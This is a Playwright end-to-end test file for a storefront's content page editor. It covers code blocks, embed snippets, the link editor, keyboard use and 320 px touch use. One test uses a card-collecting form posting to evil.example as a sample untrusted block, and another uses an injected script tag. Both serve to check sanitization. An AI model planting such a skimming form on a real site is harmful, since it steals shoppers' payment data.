import type { Page } from '@playwright/test';
import Database from 'better-sqlite3';
import { SEED_FORMS } from '../../demo/server/forms';
import { CODE_BLOCK_MESSAGES } from '../../src/code-blocks';
import { EMBED_MESSAGES } from '../../src/content-pages';
import { openAdmin, resetContentPages } from './admin-fixtures';
import {
  accessibilityViolations,
  cookieValue,
  expect,
  seeded,
  settle,
  signInThroughApi,
  storedEntries,
  switchOffFailure,
  switchOnFailure,
  test,
} from './fixtures';

// The content page editor in Chromium against the demo platform: code blocks edited in the code
// editor and seen on the storefront page, links inserted through the link editor, embed snippets
// copied and pasted, the writer without code rights, Android, keyboard only, 320 px with touch.
// Needs the built bundle in dist/.

test.describe.configure({ timeout: 90_000 });

test.beforeEach(({ demo }) => resetContentPages(demo));
test.afterEach(({ demo }) => resetContentPages(demo));

/** The code editor's editable text (CodeMirror's, once it has loaded). */
const codeEditor = (page: Page) => page.getByRole('textbox', { name: 'HTML' });

/** Replaces everything in the code editor by typing, as the owner would. */
async function retype(page: Page, text: string): Promise<void> {
  await expect(page.locator('.cm-editor')).toBeVisible();
  await codeEditor(page).focus();
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText(text);
}

test('the owner edits a code block and the storefront page shows it', async ({ page }) => {
  await signInThroughApi(page, 'owner@example.com');
  await openAdmin(page, '/config/content');
  await expect(page.getByRole('heading', { name: 'Blocks of The studio' })).toBeVisible();
  const blocks = page.getByRole('list', { name: 'Blocks of The studio' }).getByRole('listitem');
  await expect(blocks).toHaveCount(2);
  await expect(blocks.nth(1)).toContainText('Chart “Kiln firings by season”');
  expect(await accessibilityViolations(page)).toEqual([]);

  await page.getByRole('button', { name: 'Edit Code block 1' }).click();
  await expect(page.getByRole('heading', { name: 'Edit code block' })).toBeFocused();
  await retype(page, '<p class="hours">Open every day, nine to five.</p>');
  expect(await accessibilityViolations(page)).toEqual([]);
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  await expect(page.getByRole('status')).toContainText('Block saved.');
  await expect(page.getByRole('heading', { name: 'Blocks of The studio' })).toBeFocused();

  await page.goto('/studio');
  await settle(page);
  await expect(page.locator('.code-block .hours')).toHaveText('Open every day, nine to five.');
});

test('a block a writer without code rights wrote is held sanitized; the owner is told, and publishes it as written after confirming', async ({
  browser,
  demo,
  page,
}) => {
  const writer = await browser.newPage({ baseURL: demo.url });
  await signInThroughApi(writer, 'editor@example.com');
  await openAdmin(writer, '/config/content');
  await writer.getByRole('button', { name: 'Add code block' }).click();
  await retype(
    writer,
    '<p class="held">Held</p><form class="collect" action="https://evil.example/collect"><input aria-label="Card"></form>',
  );
  await writer.getByRole('button', { name: 'Save', exact: true }).click();
  await expect(writer.getByRole('status')).toContainText('Block added.');
  await writer.close();

  await signInThroughApi(page, 'owner@example.com');
  await openAdmin(page, '/config/content');
  await page
    .getByRole('button', { name: /^Edit Code block/ })
    .last()
    .click();
  const note = page.getByRole('note');
  await expect(note).toContainText(CODE_BLOCK_MESSAGES.heldSanitized);
  expect(await accessibilityViolations(page)).toEqual([]);
  await note.getByRole('button', { name: CODE_BLOCK_MESSAGES.publishLabel }).click();
  const dialog = page.getByRole('dialog', { name: 'Publish this block as written?' });
  await dialog.getByRole('button', { name: CODE_BLOCK_MESSAGES.publishLabel }).click();
  await expect(page.getByRole('status')).toContainText('Block saved.');

  await page.goto('/studio');
  await settle(page);
  await expect(page.locator('.code-block form.collect')).toHaveAttribute('action', 'https://evil.example/collect');
});

test('a writer without code rights is told the script is removed', async ({ page }) => {
  await signInThroughApi(page, 'editor@example.com');
  await openAdmin(page, '/config/content');
  await page.getByRole('button', { name: 'Add code block' }).click();
  await expect(page.getByText(CODE_BLOCK_MESSAGES.untrustedHint)).toBeVisible();
  await retype(page, '<p>Hello</p><script>window.ran = true</script>');
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  await expect(page.getByRole('status')).toContainText(CODE_BLOCK_MESSAGES.scriptRemoved);
  expect(await accessibilityViolations(page)).toEqual([]);

  await page.goto('/studio');
  await settle(page);
  await expect(page.locator('.code-block', { hasText: 'Hello' })).toBeVisible();
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
});

test('the owner copies a product’s embed code, pastes it into a code block, and a shopper adds that product to the cart from the page', async ({
  browser,
  demo,
}) => {
  const vase = seeded('stoneware-vase');
  const context = await browser.newContext({ baseURL: demo.url });
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const page = await context.newPage();
  await signInThroughApi(page, 'owner@example.com');
  await openAdmin(page, '/config/store-pages');
  const shop = page.getByRole('article', { name: 'Shop' });
  await shop.getByText('Embed a product of Shop').click();
  await shop.getByText('Embed Stoneware Vase').click();
  const code = shop.getByLabel('Embed code for Stoneware Vase');
  await expect(code).toHaveValue(/data-item-id/);
  expect(await accessibilityViolations(page)).toEqual([]);
  await shop.getByRole('button', { name: 'Copy the embed code for Stoneware Vase' }).click();
  await expect(shop.getByRole('status').filter({ hasText: EMBED_MESSAGES.copied })).toHaveText(EMBED_MESSAGES.copied);
  const snippet = await code.inputValue();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(snippet);

  await openAdmin(page, '/config/content');
  await page.getByRole('button', { name: 'Add code block' }).click();
  await expect(page.locator('.cm-editor')).toBeVisible();
  await codeEditor(page).focus();
  await page.keyboard.press('ControlOrMeta+v');
  await expect(codeEditor(page)).toContainText(`data-item-id="${vase.id}"`);
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  await expect(page.getByRole('status').filter({ hasText: 'Block added.' })).toBeVisible();
  await expect(page.getByRole('list', { name: 'Blocks of The studio' }).getByRole('listitem')).toHaveCount(3);
  await context.close();

  const shopper = await browser.newContext({ baseURL: demo.url });
  const store = await shopper.newPage();
  await store.goto('/studio');
  await settle(store);
  const embed = store.locator(`.code-block .product-embed[data-item-id="${vase.id}"]`);
  await embed.getByRole('button', { name: 'Add To Cart' }).click();
  await expect(embed.locator('.sqs-add-to-cart-button')).toHaveText('Added!');
  await expect(store.locator('a.sf-cart-pill')).toContainText('1');
  expect(storedEntries(demo, (await cookieValue(shopper, 'CART')) ?? '')).toEqual([{ sku: 'VASE-STONE', quantity: 1 }]);
  await shopper.close();
});

test('where the clipboard is refused, the code is selected to copy by hand', async ({ page }) => {
  await signInThroughApi(page, 'owner@example.com');
  await openAdmin(page, '/config/content');
  await page.evaluate(() => {
    Object.defineProperty(navigator, 'clipboard', {
      value: { writeText: () => Promise.reject(new DOMException('Denied', 'NotAllowedError')) },
    });
  });
  await page.getByText('Embed the newsletter sign-up').click();
  const code = page.getByLabel('Embed code for the newsletter sign-up');
  await expect(code).toHaveValue(/data-widget="newsletter-block"/);
  await page.getByRole('button', { name: 'Copy the embed code for the newsletter sign-up' }).click();
  await expect(page.getByRole('status').filter({ hasText: EMBED_MESSAGES.copyRefused })).toBeVisible();
  await expect(code).toBeFocused();
  expect(await code.evaluate((area: HTMLTextAreaElement) => area.value.slice(area.selectionStart, area.selectionEnd))).toBe(
    await code.inputValue(),
  );
  expect(await accessibilityViolations(page)).toEqual([]);
});

test('an email link is inserted at the cursor through the link editor, by keyboard only', async ({ page }) => {
  await signInThroughApi(page, 'owner@example.com');
  await openAdmin(page, '/config/content');
  expect(await accessibilityViolations(page)).toEqual([]);
  // Tab to the first block's Edit button, as a keyboard user would.
  const edit = page.getByRole('button', { name: 'Edit Code block 1' });
  for (let presses = 0; presses < 30 && !(await edit.evaluate((button) => button === document.activeElement)); presses += 1)
    await page.keyboard.press('Tab');
  await expect(edit).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(page.getByRole('heading', { name: 'Edit code block' })).toBeFocused();
  await expect(page.locator('.cm-editor')).toBeVisible();
  await retype(page, '<p>Write to </p>');
  // The cursor before "</p>": the link goes there.
  for (let step = 0; step < 4; step += 1) await page.keyboard.press('ArrowLeft');
  // Tab leaves the code editor: it never traps focus.
  await page.keyboard.press('Tab');
  await expect(page.getByRole('button', { name: 'Insert link' })).toBeFocused();
  await page.keyboard.press('Enter');
  const dialog = page.getByRole('dialog', { name: 'Insert a link' });
  await expect(dialog).toBeVisible();
  expect(await accessibilityViolations(page)).toEqual([]);
  await dialog.getByLabel('Link text').fill('Ann & "Bo" <studio>');
  await dialog.getByRole('radio', { name: 'Email' }).focus();
  await page.keyboard.press('Space');
  await dialog.getByLabel('To').fill('not an address');
  await dialog.getByRole('button', { name: 'Insert link' }).press('Enter');
  await expect(dialog.locator('.admin-field-error')).toBeVisible();
  expect(await accessibilityViolations(page)).toEqual([]);
  await dialog.getByLabel('To').fill('studio@example.com');
  await dialog.getByLabel('Subject').fill('A visit');
  await dialog.getByRole('checkbox', { name: 'Open in a new window' }).focus();
  await page.keyboard.press('Space');
  await dialog.getByRole('button', { name: 'Insert link' }).press('Enter');
  await expect(dialog).toHaveCount(0);
  const link =
    '<a href="mailto:studio@example.com?subject=A%20visit" target="_blank" rel="noopener noreferrer">Ann &amp; &quot;Bo&quot; &lt;studio&gt;</a>';
  await expect(codeEditor(page)).toHaveText(`<p>Write to ${link}</p>`);
  await expect(codeEditor(page)).toBeFocused();
  await page.keyboard.press('Tab');
  await page.keyboard.press('Tab');
  await expect(page.getByRole('button', { name: 'Save', exact: true })).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(page.getByRole('status').filter({ hasText: 'Block saved.' })).toBeVisible();

  await page.goto('/studio');
  const written = page.locator('.code-block a[href^="mailto:"]');
  await expect(written).toHaveText('Ann & "Bo" <studio>');
  await expect(written).toHaveAttribute('target', '_blank');
});

test('deleting a block asks first; leaving with an unsaved block asks too', async ({ page }) => {
  await signInThroughApi(page, 'owner@example.com');
  await openAdmin(page, '/config/content');
  await page.getByRole('button', { name: 'Delete Chart “Kiln firings by season”' }).click();
  const confirm = page.getByRole('dialog', { name: 'Delete Chart “Kiln firings by season”?' });
  await expect(confirm).toBeVisible();
  expect(await accessibilityViolations(page)).toEqual([]);
  await confirm.getByRole('button', { name: 'Delete' }).click();
  await expect(page.getByRole('status')).toContainText('Chart “Kiln firings by season” deleted.');
  await expect(page.getByRole('list', { name: 'Blocks of The studio' }).getByRole('listitem')).toHaveCount(1);

  await page.getByRole('button', { name: 'Edit Code block 1' }).click();
  await retype(page, '<p>Half written');
  await page.locator('.config-nav').getByRole('link', { name: 'Overview' }).click();
  const prompt = page.getByRole('dialog', { name: 'Unsaved changes' });
  await expect(prompt).toBeVisible();
  await prompt.getByRole('button', { name: 'Keep editing' }).click();
  await page.getByRole('button', { name: 'Back to the blocks' }).click();
  await page.getByRole('dialog', { name: 'Discard changes?' }).getByRole('button', { name: 'Discard changes' }).click();
  await expect(page.getByRole('heading', { name: 'Blocks of The studio' })).toBeFocused();

  await page.goto('/studio');
  await expect(page.locator('.chart-block')).toHaveCount(0);
  await expect(page.locator('.code-block')).toContainText('open Tuesday to Saturday');
});

test('a failed save says why and keeps what was typed', async ({ page, context, demo }) => {
  await signInThroughApi(page, 'owner@example.com');
  await openAdmin(page, '/config/content');
  await page.getByRole('button', { name: 'Add code block' }).click();
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  await expect(page.getByRole('alert')).toHaveText(CODE_BLOCK_MESSAGES.empty);
  await retype(page, '<p>Kept</p>');
  await switchOnFailure(context, demo, 'server-error');
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  await expect(page.getByRole('alert')).toHaveText(
    /Something went wrong\s+The server could not complete this request\. Please try again\./,
  );
  await expect(codeEditor(page)).toHaveText('<p>Kept</p>');
  expect(await accessibilityViolations(page)).toEqual([]);
  await switchOffFailure(context);
});

test('on Android: the plain text area and the spec’s message, at 320 px by touch', async ({ browser, demo }) => {
  const phone = await browser.newContext({
    baseURL: demo.url,
    viewport: { width: 320, height: 640 },
    hasTouch: true,
    isMobile: true,
    userAgent: 'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Mobile Safari/537.36',
  });
  const page = await phone.newPage();
  const scripts: string[] = [];
  page.on('request', (request) => scripts.push(new URL(request.url()).pathname));
  await signInThroughApi(page, 'owner@example.com');
  await openAdmin(page, '/config/content');
  await page.getByRole('button', { name: 'Edit Code block 1' }).tap();
  await expect(page.getByText(CODE_BLOCK_MESSAGES.android, { exact: true })).toBeVisible();
  const area = page.getByRole('textbox', { name: 'HTML' });
  await expect(area).toHaveJSProperty('localName', 'textarea');
  await expect(page.locator('.cm-editor')).toHaveCount(0);
  await area.fill('<p>From a phone</p>');
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
  expect(await accessibilityViolations(page)).toEqual([]);
  await page.getByRole('button', { name: 'Save', exact: true }).tap();
  await expect(page.getByRole('status').filter({ hasText: 'Block saved.' })).toBeVisible();
  expect(scripts.filter((path) => path.includes('admin-code-editor'))).toEqual([]);
  await phone.close();
});

test('at 320 px with touch, the list and the code editor fit the screen', async ({ browser, demo }) => {
  const phone = await browser.newContext({ baseURL: demo.url, viewport: { width: 320, height: 640 }, hasTouch: true, isMobile: true });
  const page = await phone.newPage();
  await signInThroughApi(page, 'owner@example.com');
  await openAdmin(page, '/config/content');
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
  expect(await accessibilityViolations(page)).toEqual([]);
  await page.getByRole('button', { name: 'Edit Code block 1' }).tap();
  await expect(page.locator('.cm-editor')).toBeVisible();
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
  await page.getByRole('button', { name: 'Insert link' }).tap();
  await expect(page.getByRole('dialog', { name: 'Insert a link' })).toBeVisible();
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
  expect(await accessibilityViolations(page)).toEqual([]);
  await phone.close();
});

test('CodeMirror is fetched only once a code editor is shown, never by another admin page', async ({ page }) => {
  const fetched: string[] = [];
  page.on('request', (request) => fetched.push(new URL(request.url()).pathname));
  const codeMirror = () => fetched.filter((path) => path.includes('/admin-code-editor-'));
  await signInThroughApi(page, 'owner@example.com');
  for (const path of ['/config', '/config/navigation', '/config/store-pages', '/config/content']) await openAdmin(page, path);
  expect(codeMirror()).toEqual([]);
  await page.getByRole('button', { name: 'Add code block' }).click();
  await expect(page.locator('.cm-editor')).toBeVisible();
  expect(codeMirror()).toHaveLength(1);
});

test('the newsletter block’s embed code, copied and pasted into a code block, signs a shopper up from the page', async ({
  browser,
  demo,
}) => {
  const context = await browser.newContext({ baseURL: demo.url });
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const page = await context.newPage();
  await signInThroughApi(page, 'owner@example.com');
  await openAdmin(page, '/config/content');
  await page.getByText('Embed the newsletter sign-up').click();
  await page.getByRole('button', { name: 'Copy the embed code for the newsletter sign-up' }).click();
  await expect(page.getByRole('status').filter({ hasText: EMBED_MESSAGES.copied })).toBeVisible();
  await page.getByRole('button', { name: 'Add code block' }).click();
  await expect(page.locator('.cm-editor')).toBeVisible();
  await codeEditor(page).focus();
  await page.keyboard.press('ControlOrMeta+v');
  await expect(codeEditor(page)).toContainText('data-widget="newsletter-block"');
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  await expect(page.getByRole('status').filter({ hasText: 'Block added.' })).toBeVisible();
  await context.close();

  const shopper = await browser.newContext({ baseURL: demo.url });
  const store = await shopper.newPage();
  await store.goto('/studio');
  await settle(store);
  const block = store.locator('.code-block [data-widget="newsletter-block"]');
  await expect(block.locator('[data-form-root]:not([inert]) form.sf-form')).toHaveCount(1);
  await block.getByLabel('Email Address').fill('ada@example.com');
  await block.getByRole('button', { name: 'Sign Up' }).click();
  await expect(block).toContainText('You are on the list. Look out for our next letter.');
  expect(await accessibilityViolations(store)).toEqual([]);
  await shopper.close();
  // The sign-up is the newsletter's, from this page; taken away again, so the form's other tests see only theirs.
  const db = new Database(demo.databaseFile, { fileMustExist: true });
  try {
    db.pragma('busy_timeout = 5000');
    const removed = db.prepare("DELETE FROM form_submissions WHERE form_id = ? AND page_path = '/studio'").run(SEED_FORMS.newsletter.id);
    expect(removed.changes).toBe(1);
  } finally {
    db.close();
  }
});

test('by keyboard only, the owner creates a page, adds and orders its code blocks, sees it on the storefront and in the navigation, then deletes it', async ({
  page,
}) => {
  await signInThroughApi(page, 'owner@example.com');
  await openAdmin(page, '/config/content');
  const newPage = page.getByRole('form', { name: 'New page' });
  const title = newPage.getByLabel('Page title');
  const urlId = newPage.getByLabel('URL id');
  const create = newPage.getByRole('button', { name: 'Create page' });
  const chooser = page.getByLabel('Page', { exact: true });

  // Refusals, each beside its field, with focus on it and nothing created.
  await create.press('Enter');
  await expect(newPage.getByText('Enter a title')).toBeVisible();
  await expect(title).toBeFocused();
  await expect(title).toHaveAttribute('aria-invalid', 'true');
  expect(await accessibilityViolations(page)).toEqual([]);
  await page.keyboard.type('Opening hours');
  // The hint says, as the owner types, exactly where the page will be, or the refusal ahead.
  await expect(urlId).toHaveAccessibleDescription('The page will be at /opening-hours.');
  await page.keyboard.press('Tab');
  await expect(urlId).toBeFocused();
  await page.keyboard.type('studio');
  await expect(urlId).toHaveAccessibleDescription('Another page already has the URL id "studio". Choose another.');
  await page.keyboard.press('Enter');
  await expect(newPage.locator('.admin-alert')).toHaveText('Another page already has the URL id "studio". Choose another.');
  await expect(urlId).toHaveAccessibleDescription('Another page already has the URL id "studio". Choose another.');
  await expect(urlId).toBeFocused();
  await expect(urlId).toHaveAttribute('aria-invalid', 'true');
  await expect(chooser.getByRole('option')).toHaveCount(1);

  // Empty: the id comes from the title; the refusal went with the id it was about.
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.press('Delete');
  await expect(urlId).not.toHaveAttribute('aria-invalid', 'true');
  await expect(newPage.getByText('The page will be at /opening-hours.')).toBeVisible();
  await page.keyboard.press('Tab');
  await expect(newPage.getByRole('checkbox', { name: 'Add to the main navigation' })).toBeFocused();
  await page.keyboard.press('Space');
  await page.keyboard.press('Tab');
  await expect(create).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(page.getByRole('status')).toContainText('Created “Opening hours” at /opening-hours. Add its first block.');
  await expect(page.getByRole('heading', { name: 'Blocks of Opening hours' })).toBeVisible();
  await expect(page.getByText('This page has no blocks yet.')).toBeVisible();
  const addCode = page.getByRole('button', { name: 'Add code block' });
  await expect(addCode).toBeFocused();

  for (const text of ['First', 'Second']) {
    await addCode.press('Enter');
    await retype(page, `<p class="${text.toLowerCase()}">${text}</p>`);
    await page.getByRole('button', { name: 'Save', exact: true }).press('Enter');
    await expect(page.getByRole('status')).toContainText('Block added.');
  }
  const blocks = page.getByRole('list', { name: 'Blocks of Opening hours' }).getByRole('listitem');
  await expect(blocks).toHaveText([/First/, /Second/]);
  await expect(page.getByRole('button', { name: 'Move up Code block 1' })).toHaveCount(0);

  await page.getByRole('button', { name: 'Move down Code block 1' }).press('Enter');
  await expect(page.getByRole('status')).toHaveText('Code block 1 moved down: now block 2 of 2.');
  await expect(blocks).toHaveText([/Second/, /First/]);
  // At the end it cannot move down again: focus stays with the moved block, on its other button.
  await expect(page.getByRole('button', { name: 'Move up Code block 2' })).toBeFocused();
  expect(await accessibilityViolations(page)).toEqual([]);

  await page.goto('/opening-hours');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Opening hours');
  await expect(page.locator('.code-block p')).toHaveText(['Second', 'First']);
  await expect(page.locator('#site-nav a[href="/opening-hours"]')).toHaveText('Opening hours');

  await openAdmin(page, '/config/content');
  await chooser.selectOption({ label: 'Opening hours (/opening-hours)' });
  await page.getByRole('button', { name: 'Delete page Opening hours' }).press('Enter');
  const confirm = page.getByRole('dialog', { name: 'Delete the page “Opening hours”?' });
  await expect(confirm).toContainText('Its blocks are deleted with it');
  expect(await accessibilityViolations(page)).toEqual([]);
  await confirm.getByRole('button', { name: 'Delete page' }).press('Enter');
  await expect(page.getByRole('status')).toHaveText('“Opening hours” deleted.');
  await expect(chooser).toBeFocused();
  await expect(chooser.getByRole('option')).toHaveCount(1);

  expect((await page.goto('/opening-hours'))?.status()).toBe(404);
  await page.goto('/studio');
  await expect(page.locator('#site-nav a[href="/opening-hours"]')).toHaveCount(0);

  // The last page deleted leaves no picker: focus goes to the sentence saying there are none.
  await openAdmin(page, '/config/content');
  await page.getByRole('button', { name: 'Delete page The studio' }).press('Enter');
  await page.getByRole('dialog', { name: 'Delete the page “The studio”?' }).getByRole('button', { name: 'Delete page' }).press('Enter');
  await expect(page.getByText('The site has no content pages.')).toBeFocused();
  await expect(page.getByRole('button', { name: 'Create page' })).toBeVisible();
  expect(await accessibilityViolations(page)).toEqual([]);
});

test('at 320 px with touch, a page is created and its blocks moved on a screen that fits', async ({ browser, demo }) => {
  const phone = await browser.newContext({ baseURL: demo.url, viewport: { width: 320, height: 640 }, hasTouch: true, isMobile: true });
  const page = await phone.newPage();
  await signInThroughApi(page, 'owner@example.com');
  await openAdmin(page, '/config/content');
  await page.getByRole('button', { name: 'Move down Code block 1' }).tap();
  await expect(page.getByRole('status')).toHaveText('Code block 1 moved down: now block 2 of 2.');
  await expect(page.getByRole('list', { name: 'Blocks of The studio' }).getByRole('listitem').first()).toContainText('Chart');
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
  const newPage = page.getByRole('form', { name: 'New page' });
  // "The studio" is at /studio: a page titled "Studio" would be at /studio-1.
  await newPage.getByLabel('Page title').fill('Studio');
  await expect(newPage.getByText('The page will be at /studio-1.')).toBeVisible();
  await newPage.getByLabel('Page title').fill('Visit us');
  await newPage.getByLabel('URL id').fill('visit');
  await expect(newPage.getByText('The page will be at /visit.')).toBeVisible();
  await newPage.getByRole('button', { name: 'Create page' }).tap();
  await expect(page.getByRole('heading', { name: 'Blocks of Visit us' })).toBeVisible();
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
  expect(await accessibilityViolations(page)).toEqual([]);
  await phone.close();
  const shown = await browser.newContext({ baseURL: demo.url });
  const storefront = await shown.newPage();
  expect((await storefront.goto('/visit'))?.status()).toBe(200);
  await storefront.goto('/studio');
  await expect(storefront.locator('.chart-block + .code-block, .chart-block ~ .code-block')).toHaveCount(1);
  await shown.close();
});
